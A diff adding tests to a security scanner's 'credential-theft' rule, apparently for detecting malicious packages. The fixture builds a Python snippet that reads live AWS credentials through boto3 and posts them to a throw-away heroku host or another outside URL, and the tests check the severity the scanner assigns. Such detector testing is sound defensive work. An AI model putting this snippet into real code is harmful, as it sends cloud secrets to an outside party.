@@ -23,3 +23,14 @@ describe('credential-theft', () => {
     expect(hits('credential-theft', { 'pkg/gh.py': src })).toEqual([]);
   });
 });
+
+describe('credential-theft: a cloud SDK\'s live credentials sent out', () => {
+  const STEAL = (url: string) => `import boto3, requests\ndef connect():\n    cd = boto3.Session().get_credentials()\n    requests.post("${url}", json={"k": cd.access_key, "s": cd.secret_key}, timeout=4)\n`;
+  it('flags boto3 credentials posted to a throw-away host (critical)', () => {
+    expect(maxSev(hits('credential-theft', { 'pkg/connection.py': STEAL('https://fabriccc.herokuapp.com/zz') }))).toBe('critical');
+  });
+  it('holds them posted to any other outside URL (high), not to the cloud provider itself', () => {
+    expect(maxSev(hits('credential-theft', { 'pkg/connection.py': STEAL('https://api.some-service.io/keys') }))).toBe('high');
+    expect(hits('credential-theft', { 'pkg/connection.py': STEAL('https://sts.amazonaws.com/') })).toEqual([]);
+  });
+});
